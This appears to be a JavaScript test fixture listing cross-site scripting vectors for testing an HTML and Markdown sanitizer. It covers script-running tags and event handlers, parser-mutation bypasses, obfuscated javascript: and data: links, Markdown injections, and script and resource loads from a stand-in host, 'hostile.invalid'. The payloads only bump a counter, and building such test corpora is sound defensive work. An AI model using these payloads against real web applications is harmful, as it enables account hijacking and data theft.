// What hostile notebooks try, written for these tests after the classes that public collections of
// cross-site scripting name. Each vector calls FIRE when it runs; where it reaches for the network, it
// asks HOST.

/** The call that a vector makes if it runs. It tries the frame's own window, and those above. */
const FIRE = "(function(){for(var w=window;;w=w.parent){try{w.fired=(w.fired||0)+1}catch(e){}if(w===w.parent)break}})()";
/** FIRE without characters that end attributes or tags, from code points. */
const CODED = `eval(String.fromCharCode(${[...FIRE].map((c) => c.charCodeAt(0))}))`;
/** Nothing answers there. */
export const HOST = "hostile.invalid";

const entities = (text) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join("");
const hex = (text) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join("");
const split = (text) => text.split("").join("\t");

/** Elements and attributes that run script by themselves. */
const plain = [
  `<script>${FIRE}</script>`,
  `<ScRiPt>${FIRE}</sCrIpT>`,
  `<script src="https://${HOST}/x.js"></script>`,
  `<script src="data:text/javascript,${encodeURIComponent(FIRE)}"></script>`,
  `<script type="module">${FIRE}</script>`,
  `<script/x>${FIRE}</script/y>`,
  `<img src=x onerror="${CODED}">`,
  `<img src=x:x onerror=${CODED}>`,
  `<img/src=x/onerror=${CODED}>`,
  `<img src="x"onerror="${CODED}">`,
  `<image src=x onerror="${CODED}">`,
  `<body onload="${CODED}">`,
  `<body onpageshow="${CODED}">`,
  `<svg onload="${CODED}">`,
  `<svg/onload=${CODED}>`,
  `<svg><script>${FIRE}</script></svg>`,
  `<svg><script href="data:,${encodeURIComponent(FIRE)}"/></svg>`,
  `<svg><animate onbegin="${CODED}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${CODED}" attributeName=x to=1>`,
  `<svg><a><animate attributeName=href values="javascript:${CODED}"/><text x=9 y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CODED}'/></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${FIRE}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${CODED}"></mtext></math>`,
  `<math href="javascript:${CODED}">x</math>`,
  `<video><source onerror="${CODED}"></video>`,
  `<video src=x onerror="${CODED}"></video>`,
  `<audio src=x onerror="${CODED}">`,
  `<details open ontoggle="${CODED}">x</details>`,
  `<input autofocus onfocus="${CODED}">`,
  `<select autofocus onfocus="${CODED}"></select>`,
  `<textarea autofocus onfocus="${CODED}"></textarea>`,
  `<p tabindex=0 autofocus onfocus="${CODED}">x</p>`,
  `<marquee onstart="${CODED}">x</marquee>`,
  `<p style="animation:x" onanimationstart="${CODED}">x</p><style>@keyframes x{}</style>`,
  `<iframe src="javascript:${CODED}"></iframe>`,
  `<iframe srcdoc="<script>${FIRE}</script>"></iframe>`,
  `<iframe srcdoc="${entities(`<script>${FIRE}</script>`)}"></iframe>`,
  `<iframe src="data:text/html,<script>${encodeURIComponent(FIRE)}</script>"></iframe>`,
  `<object data="javascript:${CODED}"></object>`,
  `<object data="data:text/html,<script>${encodeURIComponent(FIRE)}</script>"></object>`,
  `<embed src="javascript:${CODED}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${FIRE}</script></svg>">`,
  `<link rel=stylesheet href="https://${HOST}/x.css">`,
  `<link rel=prefetch href="https://${HOST}/x">`,
  `<link rel=dns-prefetch href="//${HOST}">`,
  `<link rel=import href="data:text/html,<script>${FIRE}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODED}">`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<base href="javascript:/a/-${CODED}//">`,
  `<style>@import "https://${HOST}/x.css";</style>`,
  `<style>body{background:url(https://${HOST}/x)}</style>`,
  `<p style="background:url(https://${HOST}/x)">x</p>`,
  `<p style="width:expression(${CODED})">x</p>`,
  `<img src="https://${HOST}/x.png">`,
  `<img srcset="https://${HOST}/x.png 2x">`,
  `<table background="https://${HOST}/x"><tr><td>x</table>`,
  `<form action="https://${HOST}/" id=f></form><button form=f autofocus>x</button>`,
];

/** What is harmless until a second parser reads what the first one wrote (mutation). */
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror='${CODED}'>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${CODED}'&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${CODED}">`,
  `<svg></p><style><a id="</style><img src=x onerror='${CODED}'>">`,
  `<svg><style><img src=x onerror="${CODED}"></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${CODED}"></style></annotation-xml></math>`,
  `<svg><desc><table><tr><td><style><img src=x onerror="${CODED}"></style></table></desc></svg>`,
  `<template><script>${FIRE}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror="${CODED}"></template>`,
  `<xmp><p title="</xmp><img src=x onerror='${CODED}'>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror='${CODED}'>"></textarea>`,
  `<title><p title="</title><img src=x onerror='${CODED}'>"></title>`,
  `<plaintext><img src=x onerror="${CODED}">`,
  `<select><template><img src=x onerror="${CODED}"></template></select>`,
  `<option><style></option></select><img src=x onerror="${CODED}"></style></option>`,
  `<!--><img src=x onerror="${CODED}">-->`,
  `<!-- --!><img src=x onerror="${CODED}"> -->`,
  `<![CDATA[><img src=x onerror="${CODED}">]]>`,
  `<svg><![CDATA[><img src=x onerror="${CODED}">]]></svg>`,
  `<?xml-stylesheet href="javascript:${CODED}"?><img src=x onerror="${CODED}">`,
  `<p title="\`><img src=x onerror=${CODED}>\`">x</p>`,
  `<<script>${FIRE}//<</script>`,
  `<a href=x\u2028onmouseover="${CODED}" autofocus onfocus="${CODED}" tabindex=0>x</a>`,
  `<img \u0000src=x onerror="${CODED}">`,
  `<im\u0000g src=x onerror="${CODED}">`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror='${CODED}' src>">`,
  `${"<div>".repeat(600)}<svg><style><img src=x onerror="${CODED}"></style>${"</div>".repeat(600)}`,
  `<svg><title><style><!--</style></title><img src=x onerror="${CODED}">--></svg>`,
  `<table><td><svg><desc><p><style><img src=x onerror="${CODED}"></style></p></table>`,
];

/** Links that run script when they are followed. The test clicks them. */
const links = [
  `javascript:${CODED}`,
  `JaVaScRiPt:${CODED}`,
  ` javascript:${CODED}`,
  `\u0001javascript:${CODED}`,
  `java\nscript:${CODED}`,
  `java\tscript:${CODED}`,
  entities(`javascript:${CODED}`),
  hex(`javascript:${CODED}`),
  `${split("javascript:")}${CODED}`,
  `javascript&colon;${CODED}`,
  `javascript&#0000058${CODED}`,
  `data:text/html,<script>${encodeURIComponent(FIRE)}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${FIRE}</script>`).toString("base64")}`,
  `vbscript:${CODED}`,
  `blob:${CODED}`,
  `feed:javascript:${CODED}`,
  `view-source:javascript:${CODED}`,
].map((url) => `<a class="bait" href="${url.replaceAll('"', "&quot;")}">x</a>`);

/** The same in Markdown's own syntax. */
export const markdown = [
  `[x](javascript:${CODED})`,
  `[x](<javascript:${CODED}>)`,
  `[x]( javascript:${CODED})`,
  `[x](java&#115;cript:${CODED})`,
  `[x][1]\n\n[1]: javascript:${CODED}`,
  `<javascript:${CODED}>`,
  `![x](x"onerror="${CODED})`,
  `![x](javascript:${CODED})`,
  `![x](https://${HOST}/x.png)`,
  `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${FIRE}</script></svg>`).toString("base64")})`,
  `\`\`\`"><img src=x onerror="${CODED}">\nx\n\`\`\``,
  `\`\`\`html\n</code></pre><img src=x onerror="${CODED}">\n\`\`\``,
  `# <img src=x onerror="${CODED}">`,
  `# x {#"><img src=x onerror="${CODED}">}`,
  `| a |\n| - |\n| <img src=x onerror="${CODED}"> |`,
  `$</math><img src=x onerror="${CODED}">$`,
  `$$\\href{javascript:${CODED}}{x}$$`,
  `$\\text{<img src=x onerror="${CODED}">}$`,
  `[^1]\n\n[^1]: <img src=x onerror="${CODED}">`,
  `<div markdown="1"><img src=x onerror="${CODED}"></div>`,
  `&lt;img src=x onerror="${CODED}"&gt;`,
  `\\<img src=x onerror="${CODED}">`,
  `<details><summary>x</summary>\n\n<img src=x onerror="${CODED}">\n\n</details>`,
];

/** Pieces of HTML. */
export const html = [...plain, ...mutating, ...links];
